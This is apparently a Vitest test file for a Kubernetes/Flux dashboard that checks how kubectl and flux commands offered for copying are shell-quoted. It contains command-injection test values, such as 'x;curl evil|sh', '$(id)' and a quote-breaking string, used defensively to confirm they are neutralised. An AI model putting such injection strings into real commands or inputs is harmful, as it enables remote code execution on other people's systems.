// SPDX-License-Identifier: Apache-2.0

import type { ComponentChild } from "preact";
import { describe, expect, it } from "vitest";
import { flux } from "../src/kinds";
import { session } from "../src/api/session";
import { commandLine, scopeFlags } from "../src/parts/command";
import { CanaryScreen } from "../src/screens/canary";
import { CommitScreen, StageCommitScreen } from "../src/screens/commit";
import { ObjectScreen } from "../src/screens/object";
import { ObjectsScreen } from "../src/screens/objects";
import { PipelineScreen } from "../src/screens/pipeline";
import { PolicyScreen } from "../src/screens/policy";
import { TimelineScreen } from "../src/screens/timeline";
import * as details from "./fixture/details";
import { usePage } from "./fixture/page";

const evil = "x;curl evil|sh";

describe("a command line", () => {
  it.each([
    ["plain words stay as they are", ["kubectl", "-n", "apps", "get", "canary", "api-1.x"], "kubectl -n apps get canary api-1.x"],
    ["what a shell would read otherwise is quoted", ["get", evil, "$(id)", "a b", "`id`"], "get 'x;curl evil|sh' '$(id)' 'a b' '`id`'"],
    ["a quote does not end the quotes", ["get", "a'; id '"], `get 'a'\\''; id '\\'''`],
    ["a line does not end at a break", ["get", "a\nid"], "get 'a\nid'"],
    ["an empty word stays a word", ["-n", "", "get"], "-n '' get"],
  ])("%s", (_, words, want) => expect(commandLine(...words)).toBe(want));
  it("of flux quotes the names", () => {
    expect(flux("reconcile", { kind: "GitRepository", namespace: "apps", name: evil })).toBe("flux reconcile source git 'x;curl evil|sh' -n apps");
  });
});

describe("commands to copy", () => {
  const page = usePage();
  const missing = () => Response.json({ error: "there is none" }, { status: 404 });

  const screens: [string, ComponentChild][] = [
    ["kind", <ObjectsScreen kind={evil} />],
    ["object", <ObjectScreen kind="Kustomization" namespace="apps" name={evil} />],
    ["Canary", <CanaryScreen namespace={evil} name="api" />],
    ["Pipeline", <PipelineScreen namespace="apps" name={evil} />],
    ["policy", <PolicyScreen namespace="apps" name={evil} />],
    ["automation", <CommitScreen namespace="apps" name={evil} />],
    ["commit", <StageCommitScreen namespace="apps" name={evil} commit="0123456" />],
    ["application", <TimelineScreen lane={`Deployment/${evil}/api`} />],
  ];
  it.each(screens)("are not offered for a %s that a made-up address names", async (_, screen) => {
    await page.show(screen, missing);
    expect(page.root.textContent).toContain("there is none");
    expect(page.texts(".command")).toEqual([]);
  });
  it("are offered for what is there", async () => {
    await page.show(<ObjectsScreen kind="Canary" />, () => Response.json({ items: [] }));
    expect(page.texts(".command code")).toEqual(["kubectl get canary -A"]);
  });
});

it("of a page that shows one namespace, a command is about that one: in all of them it is refused", () => {
  session.value = { ...details.session, namespace: "apps" };
  expect(scopeFlags()).toEqual(["-n", "apps"]);
  session.value = { ...details.session };
  expect(scopeFlags()).toEqual(["-A"]);
  session.value = undefined;
});
